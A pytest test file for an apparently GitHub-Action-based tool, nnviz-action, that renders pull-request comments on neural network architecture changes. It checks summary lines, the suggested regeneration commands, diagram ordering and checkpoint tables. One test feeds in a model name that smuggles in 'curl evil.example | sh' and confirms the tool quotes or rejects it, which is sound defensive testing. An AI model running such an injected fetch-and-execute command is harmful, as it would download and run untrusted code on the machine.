"""What a comment says first, and the command that it tells people to run."""

import pytest

from nnviz_action.report.comment import comment
from nnviz_action.report.picture_places import Place, Places
from nnviz_action.report.record import Change, Gallery, Keys, Model, Record

BASE = {"config": "nnviz.yaml", "base": "main", "head": "1234567", "base_commit": "a" * 40, "head_commit": "b" * 40}


def said(*models: Model, **more: object) -> str:
    return comment(Record(**{**BASE, **more}, models=list(models)))


def first(*models: Model, **more: object) -> str:
    return said(*models, **more).partition("\n")[0].removeprefix("### nnviz: ")


FRESH = Model(model="other", status="fresh", state="same")


@pytest.mark.parametrize(
    ("models", "line"),
    [
        ([], "no architecture changed, 1 fresh ✓"),
        ([Model(model="net", status="fresh", state="changed")], "`net` changed, 1 other fresh ✓"),
        ([Model(model="net", status="stale", state="changed")], "`net` changed and is not fresh, 1 other fresh"),
        ([Model(model="net", status="fresh", state="added")], "`net` is new, 1 other fresh ✓"),
        ([Model(model="net", status="missing", state="added")], "`net` is new and not fresh, 1 other fresh"),
        ([Model(model="net", state="removed")], "`net` is removed, 1 other fresh ✓"),
        ([Model(model="net", status="suspect", state="same")], "`net` is not fresh, 1 other fresh"),
        (
            [Model(model=name, status="fresh", state="changed") for name in "abcde"],
            "`a`, `b`, `c` and 2 more changed, 1 other fresh ✓",
        ),
        (
            [Model(model="a", status="fresh", state="changed"), Model(model="b", status="failed")],
            "`a` changed, `b` is not fresh, 1 other fresh",
        ),
        (
            [Model(model="net", status="fresh", state="changed", loads=False)],
            "`net` changed and cannot load old weights, 1 other fresh",
        ),
        (
            [Model(model=name, status="fresh", state="changed", loads=name != "a") for name in "ab"],
            "`a`, `b` changed, `a` cannot load old weights, 1 other fresh",
        ),
    ],
)
def test_the_first_line_says_what_is_the_matter(models: list[Model], line: str) -> None:
    assert first(*models, FRESH) == line


def test_nothing_compared_does_not_read_as_nothing_changed() -> None:
    line = first(FRESH, base="", base_commit="", notes=["nothing to compare with: no commit"])
    assert line == "nothing to compare with, 1 fresh"


def test_a_config_elsewhere_is_named() -> None:
    assert first(FRESH, config="packages/a/nnviz.yaml").endswith("✓ · `packages/a/nnviz.yaml`")


@pytest.mark.parametrize(
    ("status", "command"),
    [
        ("stale", "nnviz-action generate net"),
        ("suspect", "nnviz-action generate net"),
        ("orphan", "nnviz-action generate"),
        ("failed", ""),
        ("drift", "nnviz-action generate net"),
    ],
)
def test_the_command_that_mends_is_made_of_verdicts(status: str, command: str) -> None:
    text = said(Model(model="net", status=status, reasons=["because"]))  # type: ignore[arg-type]
    assert f"```sh\n{command}\n```" in text if command else "```sh" not in text
    assert ("Only a capture can tell" in text) == (status == "suspect")


def test_a_report_cannot_choose_the_command() -> None:
    name = "net; curl evil.example | sh #"
    text = said(Model(model=name, status="stale", reasons=["`x`"]), config="a b/nnviz.yaml")
    assert "```sh\nnnviz-action generate --config 'a b/nnviz.yaml' 'net; curl evil.example | sh #'\n```" in text
    with pytest.raises(ValueError, match="cure"):
        Record(**BASE, cure="curl evil.example | sh")


def test_drift_that_passes_is_told_and_needs_no_cure() -> None:
    text = said(Model(model="net", status="drift", reasons=["torch 2.13 → 2.14"]), tolerant=True)
    assert "⚠️ **net** drifted: torch 2.13 → 2.14" in text
    assert "```sh" not in text
    assert "--force" in said(Model(model="net", status="drift"), forced=True)


def test_what_the_model_s_code_said_keeps_its_lines() -> None:
    text = said(Model(model="net", status="failed", reasons=["RuntimeError: ``` no\n    net.py:3: f(x)"]))
    assert "could not be captured:\n\n````\nRuntimeError: ``` no\n    net.py:3: f(x)\n````" in text


def test_a_gallery_alone() -> None:
    text = said(FRESH, galleries=[Gallery(file="diagrams/README.md", status="outdated", reasons=["other"])])
    assert text.startswith("### nnviz: the gallery is not fresh, 1 other fresh\n")
    assert "```sh\nnnviz-action generate\n```" in text


DRAWN = {"folder": "diagrams/net", "was_folder": "diagrams/net", "was_pictures": ["forward.png", "overview.png"]}
SIDES = Places(*(Place("https://github.com", "me/nets", commit * 40) for commit in "ba"))


def test_overviews_stand_before_the_changes_and_the_whole_behind_them() -> None:
    changes = [Change(sign="+", where="tanh", what="Tanh")]
    pictures = ["forward.png", "overview-dark.png", "overview.png"]
    net = Model(model="net", status="fresh", state="changed", changes=changes, pictures=pictures, **DRAWN)
    text = comment(Record(**BASE, models=[net]), SIDES)
    order = [
        "#### net",
        "| before | after |",
        "overview.png",
        "overview-dark.png",
        "\\+ `tanh`",
        "<details>",
        "forward.png",
    ]
    assert [text.index(part) for part in order] == sorted(text.index(part) for part in order)
    assert (
        f"/blob/{'a' * 40}/diagrams/net/overview.png" in text
        and f"/blob/{'b' * 40}/diagrams/net/overview.png" in text
    )


def test_no_overview_of_what_is_not_drawn_yet_or_did_not_change() -> None:
    stale = Model(model="net", status="stale", state="changed", captured=True, **DRAWN)
    autograd = Model(model="net", status="fresh", state="autograd", pictures=["overview.png"], **DRAWN)
    for net in (stale, autograd):
        assert "overview" not in comment(Record(**BASE, models=[net]), SIDES)


def test_a_change_links_to_its_line_where_that_was_counted_in_the_head() -> None:
    changes = [Change(sign="~", where="fc", line="a b/net.py:7"), Change(sign="-", where="gone", line="net.py:9")]
    record = Record(**BASE, models=[Model(model="net", state="changed", changes=changes)])
    places = Places(Place("https://h", "o/r", "b" * 40), Place("https://h", "o/r", "a" * 40), has_lines=True)
    text = comment(record, places)
    assert f"https://h/o/r/blob/{'b' * 40}/a%20b/net.py#L7)" in text
    assert f"https://h/o/r/blob/{'a' * 40}/net.py#L9)" in text
    merged = comment(record, Places(places.head, places.base))
    assert "#L7" not in merged
    assert "`a b/net.py:7`" in merged


def test_what_becomes_of_old_weights_is_a_line_and_a_table() -> None:
    keys = [Keys(state="renamed", key="a|b", now="c", count=2)]
    text = said(Model(model="net", state="changed", loads=False, checkpoint="2 keys renamed", keys=keys, more_keys=3))
    assert "⚠️ **checkpoints**: 2 keys renamed" in text
    assert "| renamed | `a\\|b` | `c` | 2 |\n| and 3 more rows | | | |" in text
